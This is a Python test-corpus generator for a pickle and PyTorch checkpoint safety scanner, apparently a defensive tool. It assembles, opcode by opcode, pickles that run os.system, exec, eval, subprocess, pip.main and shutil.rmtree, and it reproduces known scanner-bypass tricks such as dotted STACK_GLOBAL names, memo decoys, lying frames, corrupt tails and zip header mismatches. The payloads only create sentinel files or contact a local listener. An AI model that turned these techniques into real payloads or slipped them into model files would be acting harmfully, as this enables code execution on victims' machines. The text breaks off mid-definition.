"""A corpus of malicious checkpoints, assembled byte by byte, for the safety scanner's tests.

Every file would run code when loaded the usual way (``pickle.load``, ``torch.load`` with
``weights_only=False``, ``np.load(allow_pickle=True)``); the code it runs only leaves a
*sentinel*: it creates a file the test chose (or, for ``shutil.rmtree``, removes a canary
directory the test created, or connects to a socket the test listens on, which then creates
the file). A reader that executes anything is therefore caught by a file appearing.

Pickles are written with opcodes named as in ``pickletools`` rather than with
``pickle.dumps`` of objects with ``__reduce__``, so each trick (memo indirection, frames that
lie, extension codes, corrupt tails) is exactly what the bytes say.

Each `Entry` documents what a static reader must report for it: the acceptable verdicts,
the globals that must be listed (module and name exactly as written in the file) and how
they must be classified, globals that must *not* be listed (decoys), and the tensors a
reader must still list. ``victim`` loads entries the way a victim would; the tests run it
in a subprocess to prove that the payloads are live.

Run ``python malicious_corpus.py DIR`` to write the corpus to DIR and print the catalogue.
"""

from __future__ import annotations

import importlib
import io
import json
import os
import pickletools
import shlex
import socket
import struct
import sys
import tarfile
import threading
import zipfile
from dataclasses import dataclass
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

# ---- opcodes, by their pickletools names ----

_CODES: Dict[str, bytes] = {op.name: op.code.encode("latin-1") for op in pickletools.opcodes}

PROTO = _CODES["PROTO"]
FRAME = _CODES["FRAME"]
STOP = _CODES["STOP"]
MARK = _CODES["MARK"]
POP = _CODES["POP"]
GLOBAL = _CODES["GLOBAL"]
STACK_GLOBAL = _CODES["STACK_GLOBAL"]
INST = _CODES["INST"]
OBJ = _CODES["OBJ"]
REDUCE = _CODES["REDUCE"]
EXT1 = _CODES["EXT1"]
EXT2 = _CODES["EXT2"]
BINPERSID = _CODES["BINPERSID"]
NONE = _CODES["NONE"]
NEWFALSE = _CODES["NEWFALSE"]
NEWTRUE = _CODES["NEWTRUE"]
BININT = _CODES["BININT"]
BININT1 = _CODES["BININT1"]
BININT2 = _CODES["BININT2"]
LONG1 = _CODES["LONG1"]
BINFLOAT = _CODES["BINFLOAT"]
STRING = _CODES["STRING"]
UNICODE = _CODES["UNICODE"]
BINUNICODE = _CODES["BINUNICODE"]
SHORT_BINUNICODE = _CODES["SHORT_BINUNICODE"]
SHORT_BINBYTES = _CODES["SHORT_BINBYTES"]
BYTEARRAY8 = _CODES["BYTEARRAY8"]
TUPLE = _CODES["TUPLE"]
TUPLE1 = _CODES["TUPLE1"]
TUPLE2 = _CODES["TUPLE2"]
EMPTY_TUPLE = _CODES["EMPTY_TUPLE"]
EMPTY_DICT = _CODES["EMPTY_DICT"]
EMPTY_LIST = _CODES["EMPTY_LIST"]
APPENDS = _CODES["APPENDS"]
SETITEM = _CODES["SETITEM"]
SETITEMS = _CODES["SETITEMS"]
LIST = _CODES["LIST"]
PUT = _CODES["PUT"]
GET = _CODES["GET"]
BINPUT = _CODES["BINPUT"]
BINGET = _CODES["BINGET"]
MEMOIZE = _CODES["MEMOIZE"]

# torch's legacy (pre-1.6) magic number and serialization protocol version.
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL_VERSION = 1001


# ---- operand encoders ----


def proto(n: int) -> bytes:
    return PROTO + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL with text operands (protocols 0-3; still understood by 4 and 5)."""
    return GLOBAL + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def inst(module: str, name: str) -> bytes:
    return INST + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def string0(text: str) -> bytes:
    """STRING: a quoted, escaped literal on one line (protocol 0)."""
    return STRING + repr(text).encode("ascii") + b"\n"


def unicode0(text: str) -> bytes:
    """UNICODE: raw-unicode-escape text on one line (protocol 0)."""
    return UNICODE + text.encode("raw-unicode-escape") + b"\n"


def bu(text: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    raw = text.encode("utf-8")
    return BINUNICODE + struct.pack("<I", len(raw)) + raw


def sbu(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4+)."""
    raw = text.encode("utf-8")
    assert len(raw) < 256
    return SHORT_BINUNICODE + bytes([len(raw)]) + raw


def bint(n: int) -> bytes:
    if 0 <= n < 256:
        return BININT1 + bytes([n])
    if 0 <= n < 65536:
        return BININT2 + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return BININT + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return LONG1 + bytes([len(raw)]) + raw


def binput(i: int) -> bytes:
    return BINPUT + bytes([i])


def binget(i: int) -> bytes:
    return BINGET + bytes([i])


def frame(body: bytes, declared: Optional[int] = None) -> bytes:
    """FRAME announcing `declared` bytes (default: the body's true length), then the body."""
    return FRAME + struct.pack("<Q", len(body) if declared is None else declared) + body


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call2(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args) with GLOBAL + REDUCE (protocol 2 style)."""
    return glob(module, name) + tup(*args) + REDUCE


def call4(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args) with STACK_GLOBAL + REDUCE, memoized like pickle.dumps writes it."""
    return (
        sbu(module) + MEMOIZE + sbu(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE + tup(*args) + REDUCE
    )


def p2(body: bytes) -> bytes:
    return proto(2) + body + STOP


def p4(body: bytes) -> bytes:
    return proto(4) + frame(body + STOP)


# ---- sentinels ----


class Sentinels:
    """Where payloads leave their marks: files under `root`, and a TCP listener on `port`.

    A payload "fires" when its sentinel file exists, or, for `remove` entries, when its
    canary directory is gone. The listener creates ``socket.pwned`` for any connection.
    """

    def __init__(self, root: str) -> None:
        self.root = root
        os.makedirs(root, exist_ok=True)
        self._server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._server.bind(("127.0.0.1", 0))
        self._server.listen(8)
        self.port: int = self._server.getsockname()[1]
        self._closed = False
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self._server.accept()
            except OSError:
                return
            if self._closed:
                conn.close()
                return
            with open(self.path("socket"), "w"):
                pass
            conn.close()

    def close(self) -> None:
        self._closed = True
        try:
            self._server.close()
        except OSError:
            pass

    def path(self, name: str) -> str:
        return os.path.join(self.root, name + ".pwned")

    def canary(self, name: str) -> str:
        return os.path.join(self.root, name + ".canary")

    def shell(self, name: str) -> str:
        """A shell command that creates the sentinel (for os.system and friends)."""
        return "touch " + shlex.quote(self.path(name))

    def python(self, name: str) -> str:
        """A Python statement that creates the sentinel (for exec)."""
        return "open(%r, 'w').close()" % self.path(name)

    def expression(self, name: str, value: str = "None") -> str:
        """A Python expression that creates the sentinel and evaluates to `value` (for eval)."""
        return "[open(%r, 'w').close(), %s][1]" % (self.path(name), value)


# ---- catalogue ----


@dataclass(frozen=True)
class Flag:
    """A global the reader must report, exactly as written, with one of `classifications`."""

    module: str
    name: str
    classifications: Tuple[str, ...] = ("unsafe",)
    where: Optional[str] = None  # a substring of the reported `where` (the pickle it is in)


@dataclass(frozen=True)
class Entry:
    name: str  # file name in the corpus directory
    description: str  # what the file is
    flagged_for: str  # what a reader must flag, and why
    build: Callable[[Sentinels], bytes]
    verdicts: Tuple[str, ...] = ("unsafe",)  # acceptable safety verdicts
    flags: Tuple[Flag, ...] = ()
    not_globals: Tuple[Tuple[str, str], ...] = ()  # decoys a symbolic reader never imports
    tensors: Tuple[str, ...] = ()  # tensor names (or dotted suffixes) a reader must list
    # How a victim loads it: pickle | pickle-stream | torch | numpy | member:<zip member>
    live: str = "pickle"
    needs: str = ""  # "torch" or "pip": the victim's Python needs it
    setup: str = ""  # Python run in the victim process before loading (e.g. copyreg)
    sentinel: str = ""  # sentinel name; default the entry's stem
    removes: bool = False  # the payload removes a canary directory instead of creating a file

    @property
    def stem(self) -> str:
        return self.sentinel or self.name.split(".")[0]

    def fired(self, s: Sentinels) -> bool:
        if self.removes:
            return not os.path.isdir(s.canary(self.stem))
        return os.path.exists(s.path(self.stem))


ENTRIES: List[Entry] = []


def entry(
    name: str,
    description: str,
    flagged_for: str,
    *,
    verdicts: Tuple[str, ...] = ("unsafe",),
    flags: Tuple[Flag, ...] = (),
    not_globals: Tuple[Tuple[str, str], ...] = (),
    tensors: Tuple[str, ...] = (),
    live: str = "pickle",
    needs: str = "",
    setup: str = "",
    sentinel: str = "",
    removes: bool = False,
) -> Callable[[Callable[[Sentinels], bytes]], Callable[[Sentinels], bytes]]:
    """Register the decorated builder as a corpus entry (see `Entry` for the fields)."""

    def register(build: Callable[[Sentinels], bytes]) -> Callable[[Sentinels], bytes]:
        ENTRIES.append(
            Entry(
                name,
                description,
                flagged_for,
                build,
                verdicts=verdicts,
                flags=flags,
                not_globals=not_globals,
                tensors=tensors,
                live=live,
                needs=needs,
                setup=setup,
                sentinel=sentinel,
                removes=removes,
            )
        )
        return build

    return register


# -- reduce to a dangerous callable --


@entry(
    "reduce_os_system_p2.pkl",
    "Protocol 2: GLOBAL os.system, REDUCE with a shell command (what pickle.dumps writes "
    "for a __reduce__ returning os.system).",
    "os.system: runs a shell command.",
    flags=(Flag("os", "system"),),
)
def _reduce_os_system(s: Sentinels) -> bytes:
    return p2(glob("os", "system") + bu(s.shell("reduce_os_system_p2")) + TUPLE1 + REDUCE)


@entry(
    "reduce_posix_system_p2.pkl",
    "Protocol 2: GLOBAL posix.system (os.system's real home on Linux, as pickle writes it).",
    "posix.system: runs a shell command.",
    flags=(Flag("posix", "system"),),
)
def _reduce_posix_system(s: Sentinels) -> bytes:
    return p2(glob("posix", "system") + bu(s.shell("reduce_posix_system_p2")) + TUPLE1 + REDUCE)


@entry(
    "reduce_builtins_eval_p3.pkl",
    "Protocol 3: GLOBAL builtins.eval of an expression.",
    "builtins.eval: evaluates arbitrary Python.",
    flags=(Flag("builtins", "eval"),),
)
def _reduce_eval(s: Sentinels) -> bytes:
    body = glob("builtins", "eval") + bu(s.expression("reduce_builtins_eval_p3")) + TUPLE1 + REDUCE
    return proto(3) + body + STOP


@entry(
    "reduce_builtins_exec_p4.pkl",
    "Protocol 4, framed and memoized exactly as pickle.dumps(protocol=4) writes it: "
    "STACK_GLOBAL builtins.exec.",
    "builtins.exec: runs arbitrary Python.",
    flags=(Flag("builtins", "exec"),),
)
def _reduce_exec(s: Sentinels) -> bytes:
    return p4(call4("builtins", "exec", sbu(s.python("reduce_builtins_exec_p4")) + MEMOIZE))


@entry(
    "reduce_subprocess_popen.pkl",
    "subprocess.Popen(('touch', PATH)).",
    "subprocess.Popen: starts a process.",
    flags=(Flag("subprocess", "Popen"),),
)
def _reduce_popen(s: Sentinels) -> bytes:
    argv = tup(bu("touch"), bu(s.path("reduce_subprocess_popen")))
    return p2(glob("subprocess", "Popen") + argv + TUPLE1 + REDUCE)


@entry(
    "reduce_runpy_run_code.pkl",
    "runpy._run_code(source, {}): exec in disguise (picklescan malicious14).",
    "runpy._run_code: executes code.",
    flags=(Flag("runpy", "_run_code"),),
)
def _reduce_runpy(s: Sentinels) -> bytes:
    return p2(call2("runpy", "_run_code", bu(s.python("reduce_runpy_run_code")), EMPTY_DICT))


@entry(
    "reduce_pip_main.pkl",
    "pip.main([...]): CVE-2025-1716, missing from picklescan's blocklist; here it only writes "
    "a log file (the sentinel) instead of installing a package.",
    "pip.main: installs and runs arbitrary packages.",
    flags=(Flag("pip", "main"),),
    needs="pip",
)
def _reduce_pip(s: Sentinels) -> bytes:
    args = [
        "--log",
        s.path("reduce_pip_main"),
        "--no-input",
        "--disable-pip-version-check",
        "--isolated",
        "list",
    ]
    argv = EMPTY_LIST + MARK + b"".join(bu(a) for a in args) + APPENDS
    return p2(glob("pip", "main") + argv + TUPLE1 + REDUCE)


@entry(
    "reduce_webbrowser_open.pkl",
    "webbrowser.open(PATH): runs $BROWSER (the tests set BROWSER='touch %s', so opening the "
    "'URL' creates the sentinel).",
    "webbrowser.open: launches a program.",
    flags=(Flag("webbrowser", "open"),),
    setup="import os; os.environ['BROWSER'] = 'touch %s'",
)
def _reduce_webbrowser(s: Sentinels) -> bytes:
    return p2(call2("webbrowser", "open", bu(s.path("reduce_webbrowser_open"))))


@entry(
    "reduce_socket_create_connection.pkl",
    "socket.create_connection(('127.0.0.1', PORT)): the test's listener creates the sentinel "
    "when anything connects.",
    "socket.create_connection: opens a network connection.",
    flags=(Flag("socket", "create_connection"),),
    sentinel="socket",
)
def _reduce_socket(s: Sentinels) -> bytes:
    address = tup(bu("127.0.0.1"), bint(s.port))
    return p2(glob("socket", "create_connection") + address + TUPLE1 + REDUCE)


@entry(
    "reduce_shutil_rmtree.pkl",
    "shutil.rmtree(CANARY): deletes a directory the test created.",
    "shutil.rmtree: deletes files.",
    flags=(Flag("shutil", "rmtree"),),
    removes=True,
)
def _reduce_rmtree(s: Sentinels) -> bytes:
    os.makedirs(s.canary("reduce_shutil_rmtree"), exist_ok=True)
    return p2(call2("shutil", "rmtree", bu(s.canary("reduce_shutil_rmtree"))))


@entry(
    "functools_partial_chain.pkl",
    "functools.partial(os.system, CMD) built by one REDUCE, called by a second REDUCE with ().",
    "functools.partial (calls what it wraps) and os.system.",
    flags=(Flag("functools", "partial"), Flag("os", "system")),
)
def _partial(s: Sentinels) -> bytes:
    bound = call2(
        "functools", "partial", glob("os", "system"), bu(s.shell("functools_partial_chain"))
    )
    return p2(bound + EMPTY_TUPLE + REDUCE)


@entry(
    "operator_attrgetter_chain.pkl",
    "operator.attrgetter('system') applied to pathlib.os (the os module, reached through a "
    "harmless-looking module), then called with a command. Protocol 4, STACK_GLOBAL.",
    "operator.attrgetter (attribute access on anything) and pathlib.os (the os module); "
    "pathlib.os may be 'unknown' since the name alone is only a module reference.",
    flags=(Flag("operator", "attrgetter"), Flag("pathlib", "os", ("unsafe", "unknown"))),
)
def _attrgetter(s: Sentinels) -> bytes:
    getter = call4("operator", "attrgetter", sbu("system"))
    module = sbu("pathlib") + sbu("os") + STACK_GLOBAL
    system = getter + module + TUPLE1 + REDUCE
    return p4(system + sbu(s.shell("operator_attrgetter_chain")) + TUPLE1 + REDUCE)


@entry(
    "operator_methodcaller_chain.pkl",
    "_operator.methodcaller('system', CMD) applied to pathlib.os (GHSA-84r2-jw7c-4r5q style).",
    "_operator.methodcaller (calls a method on anything) and pathlib.os.",
    flags=(Flag("_operator", "methodcaller"), Flag("pathlib", "os", ("unsafe", "unknown"))),
)
def _methodcaller(s: Sentinels) -> bytes:
    caller = call2(
        "_operator", "methodcaller", bu("system"), bu(s.shell("operator_methodcaller_chain"))
    )
    return p2(caller + glob("pathlib", "os") + TUPLE1 + REDUCE)


# -- STACK_GLOBAL tricks --


@entry(
    "stack_global_dotted_pathlib.pkl",
    "STACK_GLOBAL('pathlib', 'os.system'): protocol 4 resolves dotted names attribute by "
    "attribute, so this is os.system (fickling bypass test).",
    "pathlib.os.system: the name's components reach os.system.",
    flags=(Flag("pathlib", "os.system"),),
)
def _dotted_pathlib(s: Sentinels) -> bytes:
    return p4(call4("pathlib", "os.system", sbu(s.shell("stack_global_dotted_pathlib"))))


@entry(
    "stack_global_dotted_torch.pkl",
    "STACK_GLOBAL('torch', 'serialization.os.system'): an allowed-looking module whose dotted "
    "name walks to os.system.",
    "torch.serialization.os.system: os.system behind the torch package.",
    flags=(Flag("torch", "serialization.os.system"),),
    needs="torch",
)
def _dotted_torch(s: Sentinels) -> bytes:
    return p4(call4("torch", "serialization.os.system", sbu(s.shell("stack_global_dotted_torch"))))


@entry(
    "stack_global_memo_decoy.pkl",
    "STACK_GLOBAL whose operands come from memo GETs; the last strings pushed before it are "
    "'torch', 'LongStorage' (a decoy for scanners that look back at string opcodes); "
    "picklescan malicious11.",
    "os.system (the real operands); torch.LongStorage is never imported and must not be listed.",
    flags=(Flag("os", "system"),),
    not_globals=(("torch", "LongStorage"),),
)
def _memo_decoy(s: Sentinels) -> bytes:
    return b"".join(
        [
            unicode0("os"),
            PUT + b"2\n",
            POP,
            unicode0("system"),
            PUT + b"3\n",
            POP,
            unicode0("torch"),
            PUT + b"0\n",
            POP,
            unicode0("LongStorage"),
            PUT + b"1\n",
            POP,
            GET + b"2\n",
            GET + b"3\n",
            STACK_GLOBAL,
            MARK,
            unicode0(s.shell("stack_global_memo_decoy")),
            TUPLE,
            REDUCE,
            STOP,
        ]
    )


@entry(
    "stack_global_missing_memo.pkl",
    "os.system runs first; then a STACK_GLOBAL reads a memo key that was never stored, so "
    "pickle.load raises KeyError afterwards (picklescan keyerror-exploit). A scanner that "
    "gives up at the bad GET must still report what it saw before.",
    "os.system, and the unresolvable STACK_GLOBAL.",
    flags=(Flag("os", "system"),),
)
def _missing_memo(s: Sentinels) -> bytes:
    return b"".join(
        [
            proto(4),
            glob("os", "system"),
            unicode0(s.shell("stack_global_missing_memo")),
            TUPLE1,
            REDUCE,
            POP,
            sbu("os"),
            MEMOIZE,
            binget(3),
            binget(0),
            STACK_GLOBAL,
            bint(0x42),
            STOP,
        ]
    )


@entry(
    "stack_global_type_confused_memo.pkl",
    "os.system runs first; then STACK_GLOBAL gets an int (42) from the memo where a str is "
    "expected (picklescan type-confusion-exploit).",
    "os.system, and the STACK_GLOBAL with a non-string operand.",
    flags=(Flag("os", "system"),),
)
def _type_confused(s: Sentinels) -> bytes:
    return b"".join(
        [
            proto(4),
            glob("os", "system"),
            unicode0(s.shell("stack_global_type_confused_memo")),
            TUPLE1,
            REDUCE,
            POP,
            BININT + struct.pack("<i", 42),
            MEMOIZE,
            sbu("os"),
            MEMOIZE,
            binget(0),
            binget(1),
            STACK_GLOBAL,
            bint(0x42),
            STOP,
        ]
    )


@entry(
    "stack_global_string_operands.pkl",
    "STACK_GLOBAL fed by protocol-0 STRING opcodes instead of SHORT_BINUNICODE "
    "(GHSA-9gvj-pp9x-gcfr); no PROTO opcode at all.",
    "os.system.",
    flags=(Flag("os", "system"),),
)
def _string_operands(s: Sentinels) -> bytes:
    return (
        string0("os")
        + string0("system")
        + STACK_GLOBAL
        + string0(s.shell("stack_global_string_operands"))
        + TUPLE1
        + REDUCE
        + STOP
    )


# -- INST, OBJ --


@entry(
    "inst_builtin_exec_p0.pkl",
    "Protocol 0 INST '__builtin__ exec' (MARK, argument, INST): import and call in one "
    "opcode; __builtin__ is mapped to builtins by pickle's fix_imports.",
    "__builtin__.exec, reported as written (not rewritten to builtins).",
    flags=(Flag("__builtin__", "exec"),),
)
def _inst_exec(s: Sentinels) -> bytes:
    return MARK + string0(s.python("inst_builtin_exec_p0")) + inst("__builtin__", "exec") + STOP


@entry(
    "obj_subprocess_check_call_p1.pkl",
    "Protocol 1 OBJ: MARK, GLOBAL subprocess.check_call, argument list, OBJ calls it.",
    "subprocess.check_call.",
    flags=(Flag("subprocess", "check_call"),),
)
def _obj_call(s: Sentinels) -> bytes:
    argv = EMPTY_LIST + MARK + bu("touch") + bu(s.path("obj_subprocess_check_call_p1")) + APPENDS
    return MARK + glob("subprocess", "check_call") + argv + OBJ + STOP


@entry(
    "obj_result_popped.pkl",
    "OBJ calls os.system and its result is discarded by POP; the pickle's value is None, so a "
    "scanner that only inspects the final object sees nothing (fickling bypass test).",
    "os.system.",
    flags=(Flag("os", "system"),),
)
def _obj_popped(s: Sentinels) -> bytes:
    call = MARK + glob("os", "system") + bu(s.shell("obj_result_popped")) + OBJ
    return call + POP + NONE + STOP


@entry(
    "sour_pickle_p0.pkl",
    "The protocol-0 'Sour Pickles' chain (Slaviero, BH US 2011): __builtin__ globals, compile, "
    "eval, getattr(dict, 'get'), apply. eval runs the code; apply (absent in Python 3) fails "
    "only afterwards.",
    "__builtin__.compile, eval, getattr and apply, reported with the module as written.",
    flags=(
        Flag("__builtin__", "globals", ("unsafe", "unknown")),
        Flag("__builtin__", "compile"),
        Flag("__builtin__", "eval"),
        Flag("__builtin__", "getattr"),
        Flag("__builtin__", "apply"),
    ),
)
def _sour(s: Sentinels) -> bytes:
    code = s.python("sour_pickle_p0") + ";picklesmashed=1"
    return b"".join(
        [
            glob("__builtin__", "globals"),
            b"(tRp100\n0",
            glob("__builtin__", "compile"),
            b"(" + string0(code) + string0("") + string0("exec") + b"tRp101\n0",
            glob("__builtin__", "eval"),
            b"(g101\ng100\ntRp102\n0",
            glob("__builtin__", "getattr"),
            b"(" + glob("__builtin__", "dict") + string0("get") + b"tRp103\n0",
            glob("__builtin__", "apply"),
            b"(g103\n(g100\n" + string0("picklesmashed") + b"ltRp104\n0g104\n.",
        ]
    )


# -- hidden imports: copyreg extension codes --


@entry(
    "ext1_registry.pkl",
    "EXT1 0xF0: the callable comes from copyreg's extension registry, with no module or name "
    "in the file. Live where the process registered code 0xF0 (the victim does "
    "copyreg.add_extension('os', 'system', 0xF0)).",
    "EXT1: an import the file does not name; it cannot be proven safe.",
    verdicts=("unsafe", "unknown"),
    setup="import copyreg; copyreg.add_extension('os', 'system', 0xF0)",
)
def _ext1(s: Sentinels) -> bytes:
    return p2(EXT1 + b"\xf0" + bu(s.shell("ext1_registry")) + TUPLE1 + REDUCE)


@entry(
    "ext2_registry.pkl",
    "EXT2 0x1234 (builtins.exec when registered), protocol 2.",
    "EXT2: an import the file does not name.",
    verdicts=("unsafe", "unknown"),
    setup="import copyreg; copyreg.add_extension('builtins', 'exec', 0x1234)",
)
def _ext2(s: Sentinels) -> bytes:
    return p2(EXT2 + struct.pack("<H", 0x1234) + bu(s.python("ext2_registry")) + TUPLE1 + REDUCE)


# -- framing and stream tricks --


@entry(
    "frame_desync_p4.pkl",
    "A FRAME that declares 4 bytes and ends inside the data of a SHORT_BINBYTES of length 4 "
    "(data 'N.' + 2 bytes past the frame). CPython's C unpickler reads straight through "
    "(frames are only a buffering hint) and reaches GLOBAL os.system; the pure-Python "
    "unpickler raises 'pickle exhausted before end of frame', and a parser that resumes at "
    "the frame boundary desyncs (CPython issue 154848 in fickling's bypass tests).",
    "os.system after the lying frame.",
    flags=(Flag("os", "system"),),
)
def _frame_desync(s: Sentinels) -> bytes:
    inside = SHORT_BINBYTES + bytes([4]) + NONE + STOP
    return b"".join(
        [
            proto(4),
            frame(inside),
            b"\x00\x00",  # the rest of the bytes' data, outside the frame
            POP,
            glob("os", "system"),
            sbu(s.shell("frame_desync_p4")),
            TUPLE1,
            REDUCE,
            STOP,
        ]
    )


@entry(
    "frame_nested_p5.pkl",
    "Protocol 5: a FRAME opcode inside a frame that has not ended (the pure-Python unpickler "
    "refuses it, the C unpickler does not care); the payload follows the inner frame.",
    "builtins.exec.",
    flags=(Flag("builtins", "exec"),),
)
def _frame_nested(s: Sentinels) -> bytes:
    payload = call4("builtins", "exec", sbu(s.python("frame_nested_p5"))) + STOP
    inner = frame(payload)
    outer_body = EMPTY_DICT + POP + inner
    return proto(5) + frame(outer_body, declared=len(EMPTY_DICT + POP) + 9 + 4)


@entry(
    "corrupt_tail_p2.pkl",
    "nullifAI style: the payload comes first, then bytes that are not a pickle and no STOP. "
    "pickle.load runs exec before it fails on the tail; scanners that reject the whole file "
    "on the parse error report nothing.",
    "builtins.exec, despite the corrupt tail.",
    flags=(Flag("builtins", "exec"),),
)
def _corrupt_tail(s: Sentinels) -> bytes:
    payload = glob("builtins", "exec") + bu(s.python("corrupt_tail_p2")) + TUPLE1 + REDUCE
    return proto(2) + payload + b"\xff\xfe\xfd\x00garbage\x07"


@entry(
    "concatenated_second.pkl",
    "Two pickles back to back: a harmless dict, then os.system. Loaders that read a stream "
    "of pickles (torch's legacy format, joblib, pickle.load in a loop) run the second.",
    "os.system in the second pickle.",
    flags=(Flag("os", "system"),),
    live="pickle-stream",
)
def _concatenated(s: Sentinels) -> bytes:
    first = p2(EMPTY_DICT + bu("lr") + BINFLOAT + struct.pack(">d", 0.1) + SETITEM)
    return first + p2(glob("os", "system") + bu(s.shell("concatenated_second")) + TUPLE1 + REDUCE)


# -- the same call in every protocol --


@entry(
    "proto0_os_system.pkl",
    "Protocol 0, text only: GLOBAL, MARK, UNICODE, TUPLE, REDUCE.",
    "os.system.",
    flags=(Flag("os", "system"),),
)
def _proto0(s: Sentinels) -> bytes:
    return (
        glob("os", "system") + MARK + unicode0(s.shell("proto0_os_system")) + TUPLE + REDUCE + STOP
    )


@entry(
    "proto1_subprocess_getoutput.pkl",
    "Protocol 1 (binary opcodes, no PROTO): subprocess.getoutput(CMD).",
    "subprocess.getoutput.",
    flags=(Flag("subprocess", "getoutput"),),
)
def _proto1(s: Sentinels) -> bytes:
    return (
        glob("subprocess", "getoutput")
        + binput(0)
        + MARK
        + bu(s.shell("proto1_subprocess_getoutput"))
        + binput(1)
        + TUPLE
        + REDUCE
        + STOP
    )


@entry(
    "proto5_bytearray_exec.pkl",
    "Protocol 5: STACK_GLOBAL builtins.exec with its source in a BYTEARRAY8.",
    "builtins.exec.",
    flags=(Flag("builtins", "exec"),),
)
def _proto5(s: Sentinels) -> bytes:
    source = s.python("proto5_bytearray_exec").encode("utf-8")
    arg = BYTEARRAY8 + struct.pack("<Q", len(source)) + source
    return proto(5) + frame(call4("builtins", "exec", arg) + STOP)


# ---- PyTorch containers ----


def _storage_ref(storage: str, key: str, numel: int, legacy: bool) -> bytes:
    """BINPERSID of ('storage', torch.<storage>, key, 'cpu', numel[, None])."""
    items = bu("storage") + glob("torch", storage) + bu(key) + bu("cpu") + bint(numel)
    if legacy:
        items += NONE
    return tup(items) + BINPERSID


def _ints(values: Sequence[int]) -> bytes:
    return tup(*(bint(v) for v in values))


def tensor_ops(key: str, shape: Sequence[int], legacy: bool = False) -> bytes:
    """torch._utils._rebuild_tensor_v2 of a contiguous float32 tensor on storage `key`."""
    numel = 1
    for d in shape:
        numel *= d
    stride = []
    step = 1
    for d in reversed(shape):
        stride.insert(0, step)
        step *= d
    args = (
        _storage_ref("FloatStorage", key, numel, legacy)
        + bint(0)
        + _ints(shape)
        + _ints(stride)
        + NEWFALSE
        + glob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
    )
    return glob("torch._utils", "_rebuild_tensor_v2") + tup(args) + REDUCE


def _f32(values: Sequence[float]) -> bytes:
    return struct.pack("<%df" % len(values), *values)


# name, storage key, shape, data
_STATE = [
    ("weight", "0", (2, 3), _f32([0.0, 1.0, 2.0, 3.0, 4.0, 5.0])),
    ("bias", "1", (2,), _f32([0.5, -0.5])),
]


def state_dict_ops(prefix: str = "", legacy: bool = False) -> bytes:
    """An OrderedDict of the _STATE tensors, names prefixed (e.g. 'layer.')."""
    items = b"".join(bu(prefix + n) + tensor_ops(k, shape, legacy) for n, k, shape, _ in _STATE)
    return glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK + items + SETITEMS


def torch_zip(
    data_pkl: bytes,
    extra: Sequence[Tuple[str, bytes]] = (),
    storages: bool = True,
    prefix: str = "archive",
) -> bytes:
    """A torch.save-style zip: <prefix>/data.pkl, data/<key>, version (all STORED)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(prefix + "/data.pkl", data_pkl)
        for name, data in extra:
            z.writestr(prefix + "/" + name, data)
        if storages:
            for _, key, _, data in _STATE:
                z.writestr(prefix + "/data/" + key, data)
        z.writestr(prefix + "/version", b"3\n")
    return buf.getvalue()


@entry(
    "torch_zip_payload.pt",
    "A torch.save zip whose archive/data.pkl is a real state_dict (weight 2x3, bias 2, with "
    "their storages) plus one extra key whose value is os.system(CMD).",
    "os.system in archive/data.pkl; the tensors are still listed.",
    flags=(Flag("os", "system", where="data.pkl"),),
    tensors=("weight", "bias"),
    live="torch",
    needs="torch",
)
def _torch_zip(s: Sentinels) -> bytes:
    payload = bu("__payload__") + call2("os", "system", bu(s.shell("torch_zip_payload")))
    body = state_dict_ops()[: -len(SETITEMS)] + payload + SETITEMS
    return torch_zip(p2(body))


@entry(
    "torch_zip_name_mismatch.pt",
    "The torch zip above with the local header of data.pkl renamed to 'archive/datap.kl' "
    "while the central directory still says 'archive/data.pkl' (picklescan "
    "malicious1_central_directory / CVE-2025-1944). torch's reader looks names up in the "
    "central directory only; Python's zipfile refuses to open the member.",
    "builtins.exec in the member the central directory calls archive/data.pkl.",
    flags=(Flag("builtins", "exec"),),
    tensors=("weight", "bias"),
    live="torch",
    needs="torch",
)
def _torch_zip_mismatch(s: Sentinels) -> bytes:
    payload = bu("__payload__") + call2("builtins", "exec", bu(s.python("torch_zip_name_mismatch")))
    body = state_dict_ops()[: -len(SETITEMS)] + payload + SETITEMS
    raw = torch_zip(p2(body))
    name = b"archive/data.pkl"
    at = raw.index(name)  # the first occurrence is the local header (it precedes the data)
    return raw[:at] + b"archive/datap.kl" + raw[at + len(name) :]


@entry(
    "lightning_hparams.ckpt",
    "A Lightning-style checkpoint (epoch, global_step, pytorch-lightning_version, a real "
    "state_dict with layer.weight/layer.bias) whose hyper_parameters hold "
    "subprocess.run(['touch', PATH]).",
    "subprocess.run inside hyper_parameters; the state_dict tensors are still listed.",
    flags=(Flag("subprocess", "run"),),
    tensors=("layer.weight", "layer.bias"),
    live="torch",
    needs="torch",
)
def _lightning(s: Sentinels) -> bytes:
    argv = EMPTY_LIST + MARK + bu("touch") + bu(s.path("lightning_hparams")) + APPENDS
    hparams = (
        EMPTY_DICT
        + MARK
        + bu("lr")
        + BINFLOAT
        + struct.pack(">d", 0.001)
        + bu("callback")
        + glob("subprocess", "run")
        + argv
        + TUPLE1
        + REDUCE
        + SETITEMS
    )
    body = (
        EMPTY_DICT
        + MARK
        + bu("epoch")
        + bint(3)
        + bu("global_step")
        + bint(120)
        + bu("pytorch-lightning_version")
        + bu("2.1.0")
        + bu("state_dict")
        + state_dict_ops("layer.")
        + bu("hyper_parameters")
        + hparams
        + SETITEMS
    )
    return torch_zip(p2(body))


@entry(
    "ace_dict_state.pt",
